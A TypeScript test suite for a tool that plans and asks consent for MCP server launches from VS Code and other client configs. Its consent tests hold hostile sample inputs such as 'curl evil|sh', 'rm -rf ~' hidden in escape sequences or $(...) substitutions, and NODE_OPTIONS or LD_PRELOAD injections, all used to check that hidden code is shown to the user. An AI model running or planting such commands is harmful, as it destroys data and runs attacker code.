import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { clients, readersOf } from '../../src/core/clients';
import { parseConfig } from '../../src/core/config/parse';
import { parseEnvFile } from '../../src/core/config/env-file';
import { isInsideEnvelope, isOutside } from '../../src/core/launch/envelope';
import { consentQuestion, consentUnit } from '../../src/core/launch/consent';
import { isOnNetwork } from '../../src/core/launch/network-path';
import { planLaunch } from '../../src/core/launch/plan-launch';
import { resolveProgram } from '../../src/core/launch/resolve';
import { spawnForm } from '../../src/core/launch/spawn-form';
import { Raw } from '../../src/core/text';
import type { Platform } from '../../src/core/platform';
import type { FoundProgram } from '../../src/core/launch/consent';
import type { LaunchPlan } from '../../src/core/launch/launch-plan';
import type { PlanningWorld } from '../../src/core/launch/plan-launch';

const world: PlanningWorld = {
  platform: 'linux',
  base: { PATH: '/usr/bin', FROM_SHELL: 'yes' },
  baseIsExactFor: 'vscode',
  home: '/home/u',
  workspaceFolder: '/w',
  processCwd: '/start',
  answers: { key: 'answered' },
  envFile: (path) => (path === '/w/.env' ? { kind: 'read', text: new Raw('FROM_FILE=1') } : { kind: 'unread' }),
};

function plan(entry: object, more: Partial<PlanningWorld> = {}, path = '/w/.vscode/mcp.json'): LaunchPlan {
  const root = path.endsWith('.vscode/mcp.json') ? 'servers' : 'mcpServers';
  const parsed = parseConfig(path, JSON.stringify({ [root]: { s: entry } })).maps[0]?.servers[0];
  const [reader] = readersOf(path);
  assert.ok(parsed && reader);
  const planned = planLaunch(parsed, reader, { ...world, ...more });
  assert.ok(planned);
  return planned;
}

describe('what VS Code would start', () => {
  it('resolves its variables, and leaves what it does not know', () => {
    const { command, args } = plan({
      command: '${workspaceFolder}/bin/x',
      args: ['${env:FROM_SHELL}', '${env:UNSET}', '${input:key}', '${VAR}', '${userHome}', '${/}'],
    });
    assert.equal(command.reveal(), '/w/bin/x');
    assert.deepEqual(args.reveal(), ['yes', '', 'answered', '${VAR}', '/home/u', '/']);
  });

  it('knows no variable, input or program that every object has', () => {
    const { args, unresolved } = plan({ command: 'x', args: ['${env:constructor}', '${input:toString}'] });
    assert.deepEqual(args.reveal(), ['', '${input:toString}']);
    assert.deepEqual(unresolved, [{ kind: 'input', id: 'toString' }]);
    for (const command of ['constructor', 'toString', '__proto__', 'toString x'])
      assert.equal(plan({ command }).probeClass.code, 'local', command);
  });

  it('expands a tilde at the start of command, args and cwd, and nowhere else', () => {
    const { command, args, cwd, env } = plan({
      command: '~/x',
      args: ['~/a', '--dir=~/b'],
      cwd: '~',
      env: { D: '~/c' },
    });
    assert.deepEqual([command.reveal(), ...args.reveal(), cwd], ['/home/u/x', '/home/u/a', '--dir=~/b', '/home/u']);
    assert.equal(env.reveal()['D'], '~/c');
  });

  it('starts in the folder of the file, a relative cwd joined to it', () => {
    assert.equal(plan({ command: 'x' }).cwd, '/w');
    assert.equal(plan({ command: 'x', cwd: 'sub' }).cwd, '/w/sub');
    assert.equal(plan({ command: 'x' }, { workspaceFolder: null }).cwd, '/home/u');
  });

  it('reads envFile', () =>
    assert.equal(plan({ command: 'x', envFile: '${workspaceFolder}/.env' }).env.reveal()['FROM_FILE'], '1'));

  it('replaces nothing in a .mcp.json, and ignores cwd there', () => {
    const { args, cwd } = plan({ command: 'x', args: ['${workspaceFolder}'], cwd: '/elsewhere' }, {}, '/w/.mcp.json');
    assert.deepEqual(args.reveal(), ['${workspaceFolder}']);
    assert.equal(cwd, '/w');
  });

  const classes: readonly [string, object, string][] = [
    ['a local program', { command: 'node', args: ['server.js'] }, 'background local'],
    ['a downloader', { command: '/usr/bin/npx', args: ['-y', 'x'] }, 'explicit downloads'],
    ['a downloader on Windows', { command: 'C:\\n\\npx.cmd', args: ['x'] }, 'explicit downloads'],
    ['uv tool run', { command: 'uv', args: ['tool', 'run', 'x'] }, 'explicit downloads'],
    ['a shell', { command: 'bash', args: ['-c', 'x'] }, 'explicit wrapper'],
    ['a port', { command: 'x', args: ['--port', '3000'] }, 'explicit port'],
    ['an input without an answer', { command: 'x', env: { K: '${input:other}' } }, 'explicit needs-input'],
    ['a command variable', { command: '${command:pick}' }, 'never needs-client'],
    ['a sandbox', { command: 'x', sandboxEnabled: true }, 'never sandboxed'],
  ];
  for (const [name, entry, expected] of classes) {
    it(`classes ${name} as ${expected}`, () => {
      const { kind, code } = plan(entry).probeClass;
      assert.equal(`${kind} ${code}`, expected);
    });
  }
});

describe('the envFile of VS Code', () => {
  it('is read by its own rules', () => {
    const text = '# c\nA=1\nexport B: two # gone\nC="x\\ny"\nD=\'#kept\'\n\nE=a=b\nbroken\n';
    assert.deepEqual(parseEnvFile(text), { A: '1', B: 'two', C: 'x\ny', D: '#kept', E: 'a=b' });
  });
  it('costs no more than its length', () => assert.deepEqual(parseEnvFile(`A${' '.repeat(1_000_000)}B`), {}));
});

describe('consent', () => {
  const unit = (entry: { env?: Record<string, string> }, more?: Partial<PlanningWorld>) =>
    consentUnit(plan({ command: 'node', args: ['a.js'], ...entry }, more), (text) => `#${text}`);
  it('is another for another value, folder or program, and the same for the same', () => {
    const units = [unit({}), unit({ env: { A: '1' } }), unit({ env: { A: '2' } }), unit({}, { workspaceFolder: '/v' })];
    assert.equal(new Set(units).size, units.length);
    assert.equal(unit({ env: { A: '1' } }), unit({ env: { A: '1' } }));
  });
});

describe('what consent is given to', () => {
  it('is the values as they would be, whatever stands in their names', () => {
    const unit = (value: string) =>
      consentUnit(plan({ command: 'x', env: { ['LD_PRELOAD${env:NOPE}']: value } }), (text) => text);
    assert.notEqual(unit('/ok.so'), unit('/evil.so'));
    assert.match(unit('/ok.so'), /"LD_PRELOAD","\/ok.so"/);
  });
});

describe('the question that consent answers', () => {
  const ask = (entry: object, more: Partial<PlanningWorld> = {}, program: FoundProgram | null = null) =>
    consentQuestion(plan(entry, more), program);
  const runs = (entry: object) => String(ask(entry).short[0]).replace(/^Runs: /, '');

  const hiding: readonly [name: string, entry: object, shown: string][] = [
    [
      'an env value that equals an argument',
      { command: 'bash', args: ['-c', 'curl evil|sh'], env: { GITHUB_TOKEN: 'curl evil|sh' } },
      'bash -c "curl evil|sh"',
    ],
    [
      'an escape sequence, and what it wraps',
      { command: 'node', args: ['a\u001B]0;; rm -rf ~\u0007b'] },
      String.raw`node "a\u001b]0;; rm -rf ~\u0007b"`,
    ],
    [
      'code in the query of an address',
      { command: 'bash', args: ['-c', 'curl "https://h/?key=$(rm -rf ~)"'] },
      String.raw`bash -c "curl \"https://h/?key=$(rm -rf ~)\""`,
    ],
    [
      'the header of a private key in front of code',
      { command: 'sh', args: ['-c', ': -----BEGIN PRIVATE KEY-----; payload'] },
      'sh -c ": -----BEGIN PRIVATE KEY-----; payload"',
    ],
    [
      'the shape of a token',
      { command: 'sh', args: ['-c', 'ghp_0123456789abcdefghij0123;x'] },
      'sh -c "ghp_0123456789abcdefghij0123;x"',
    ],
    ['a character without width', { command: '/bin/no\u200Bde' }, String.raw`"/bin/no\u200bde"`],
    ['a turn of direction', { command: 'x', args: ['a\u202Etxt.exe'] }, String.raw`x "a\u202etxt.exe"`],
    ['a tag of the supplementary planes', { command: 'x', args: ['a\u{E0041}'] }, String.raw`x "a\udb40\udc41"`],
    ['a blank that is none', { command: 'x', args: ['a\u00A0b\u2800c'] }, String.raw`x "a\u00a0b\u2800c"`],
    ['blanks that push the rest away', { command: 'x', args: ['a   b'] }, String.raw`x "a \u0020\u0020b"`],
    [
      'a line that begins anew',
      { command: 'node', args: ['a.js\r\n  npx good'] },
      String.raw`node "a.js\r\n \u0020npx good"`,
    ],
    ['a word that poses as hidden', { command: 'sh', args: ['-c', '‹env X›'] }, String.raw`sh -c "\u2039env X\u203a"`],
    ['a quote that ends a word', { command: 'x', args: ['a" "b'] }, String.raw`x "a\" \"b"`],
    ['an empty word', { command: 'x', args: [''] }, 'x ""'],
    ['code behind the flag of a secret', { command: 'x', args: ['--api-key', '$(id)'] }, 'x --api-key "$(id)"'],
    ['a script behind the flag of a secret', { command: 'x', args: ['--token', './evil.sh'] }, 'x --token ./evil.sh'],
  ];
  for (const [name, entry, shown] of hiding) it(`tells ${name}`, () => assert.equal(runs(entry), shown));

  it('shows a plain secret behind its flag by its length and beginning, and in full where everything is', () => {
    const entry = { command: 'x', args: ['--api-key', 'sk0123456789abcdef', '--token=abcd1234efgh'] };
    assert.equal(runs(entry), 'x --api-key ‹18 characters, sk01…› --token=‹12 characters, abc…›');
    assert.equal(
      ask(entry).everything[0],
      'Runs: x\n      --api-key\n      sk0123456789abcdef\n      --token=abcd1234efgh',
    );
  });

  it('shows what was answered, where it stands for an argument', () =>
    assert.equal(runs({ command: 'sh', args: ['-c', '${input:key}'] }), 'sh -c answered'));

  it('names the program that was found, and what it is a link to', () => {
    const which = (program: FoundProgram | null) => ask({ command: 'npx' }, {}, program).short[1];
    const path = '/usr/bin/npx';
    assert.equal(which({ path, realPath: path }), 'Which is: /usr/bin/npx');
    assert.equal(which({ path, realPath: '/w/x.js' }), 'Which is: /usr/bin/npx, a link to /w/x.js');
    assert.equal(which(null), 'Which is: nothing that is there now');
  });

  it('shows the values that decide which code runs, of the entry and of its envFile, and names the others', () => {
    const env = {
      NODE_OPTIONS: '--require ./evil.js',
      PATH: '/w/bin',
      LD_PRELOAD: '/w/x.so',
      COLOUR: 'red',
      'A› B': 'c',
    };
    const file = { kind: 'read' as const, text: new Raw('BASH_ENV=/w/x.sh\nOTHER=1') };
    const { short, everything } = ask({ command: 'x', env, envFile: '/w/.env' }, { envFile: () => file });
    const text = short.join('\n');
    for (const line of ['Sets: NODE_OPTIONS="--require ./evil.js"', 'Sets: PATH=/w/bin', 'Sets: LD_PRELOAD=/w/x.so'])
      assert.ok(short.map(String).includes(line), `${line} in\n${text}`);
    assert.match(text, /The file sets: BASH_ENV=\/w\/x\.sh/);
    assert.match(text, /, and NODE_OPTIONS, PATH, LD_PRELOAD, COLOUR, "A\\u203a B", and 2 values from \/w\/\.env/);
    assert.doesNotMatch(text, /red|OTHER=1/);
    assert.match(everything.join('\n'), /Sets: COLOUR=red\n.*Sets: "A\\u203a B"=c\n.*The file sets: OTHER=1/s);
  });
});

describe('the envelope of a trial', () => {
  const written = plan({ command: 'npx', args: ['x'] });
  const rows: readonly [string, object, boolean][] = [
    ['the same program by its path', { command: '/opt/bin/npx', args: ['x'] }, true],
    ['PATH added', { command: '/opt/bin/npx', args: ['x'], env: { PATH: '/opt/bin' } }, true],
    ['another program', { command: '/opt/bin/node', args: ['x'] }, false],
    ['inside the workspace', { command: '/w/node_modules/.bin/npx', args: ['x'] }, false],
    ['by a way back into it', { command: '/opt/../w/npx', args: ['x'] }, false],
    ['by a relative path', { command: './npx', args: ['x'] }, false],
    ['other args', { command: '/opt/bin/npx', args: ['y'] }, false],
    ['another variable', { command: 'npx', args: ['x'], env: { NODE_OPTIONS: '--require x' } }, false],
    ['another folder', { command: 'npx', args: ['x'], cwd: '/tmp' }, false],
  ];
  for (const [name, entry, inside] of rows) {
    it(`${inside ? 'has' : 'has not'} room for ${name}`, () =>
      assert.equal(isInsideEnvelope(written, plan(entry)), inside));
  }
  it('knows the many spellings of a path', () => {
    assert.ok(!isOutside('/w/./x', '/w') && !isOutside('//w/x', '/w') && !isOutside('C:\\W\\x', 'c:\\w'));
  });
  it('knows a folder from one whose name begins the same', () => assert.ok(isOutside('/w2/x', '/w')));
});

describe('finding a program', () => {
  const rows: readonly [Platform, string, string[], string[], string | null][] = [
    ['linux', 'npx', ['/a', '/b'], ['/b/npx'], '/b/npx'],
    ['linux', './npx', ['/a'], ['/cwd/./npx'], '/cwd/./npx'],
    ['linux', '/x/npx', [], ['/x/npx'], '/x/npx'],
    ['linux', 'npx', ['/a'], ['/cwd/npx'], null],
    ['win32', 'npx', ['C:\\a', 'C:\\b'], ['C:\\a\\npx.CMD', 'C:\\b\\npx.EXE'], 'C:\\a\\npx.CMD'],
    ['win32', 'npx', ['C:\\a'], ['C:\\a\\npx', 'C:\\a\\npx.EXE'], 'C:\\a\\npx.EXE'],
    ['win32', 'C:\\x\\npx', [], ['C:\\x\\npx.CMD'], null],
  ];
  for (const [platform, command, path, files, found] of rows) {
    it(`${platform}: ${command} among ${files.join(', ')}`, () => {
      const where = { platform, path, cwd: platform === 'win32' ? 'C:\\cwd' : '/cwd' };
      assert.equal(resolveProgram(command, where, { isProgram: (file) => files.includes(file) }), found);
    });
  }
});

describe('starting a program on Windows', () => {
  const onWindows = (entry: object) => plan(entry, { platform: 'win32', base: { Path: 'C:\\n' } });
  it('takes a shell for a .cmd, everything in quotes', () => {
    const form = spawnForm(onWindows({ command: 'npx', args: ['-y', 'a"b'] }), (path) => path === 'C:\\n\\npx.CMD');
    assert.deepEqual(form, { file: '"npx"', args: ['"-y"', '"a""b"'], shell: true });
  });
  it('starts an .exe directly', () => {
    const form = spawnForm(onWindows({ command: 'node', args: ['a b'] }), (path) => path === 'C:\\n\\node.EXE');
    assert.deepEqual(form, { file: 'node', args: ['a b'], shell: false });
  });
});

describe('a path on another machine', () => {
  const rows: readonly [Platform, string, boolean][] = [
    ['win32', '\\\\server\\share\\.env', true],
    ['win32', '//server/share', true],
    ['win32', 'C:\\x', false],
    ['win32', '\\x', false],
    ['linux', '//x', false],
  ];
  for (const [platform, path, expected] of rows)
    it(`${platform}: ${path} is ${expected ? 'one' : 'none'}`, () =>
      assert.equal(isOnNetwork(path, platform), expected));
});

describe('clients', () => {
  const readers: Record<string, readonly string[]> = {
    '/w/.vscode/mcp.json': ['vscode'],
    '/w/.mcp.json': ['claude-code', 'copilot-cli', 'visual-studio', 'vscode'],
    'C:\\w\\.cursor\\mcp.json': ['cursor'],
    '/h/.config/Claude/claude_desktop_config.json': ['claude-desktop'],
    '/h/.config/Code/User/profiles/1/mcp.json': ['vscode'],
    '/w/mcp.json': [],
    '/w/.vscode/settings.json': [],
  };
  for (const [path, ids] of Object.entries(readers)) {
    it(`${path} is read by ${ids.join(', ') || 'nobody'}`, () =>
      assert.deepEqual(
        readersOf(path)
          .map(({ client }) => client.id)
          .toSorted(),
        ids,
      ));
  }
  it('have the names of their files', () => {
    const files = readdirSync('src/core/clients').map((file) => file.replace(/\.ts$/, ''));
    for (const { id } of clients) assert.ok(files.includes(id), id);
  });
});
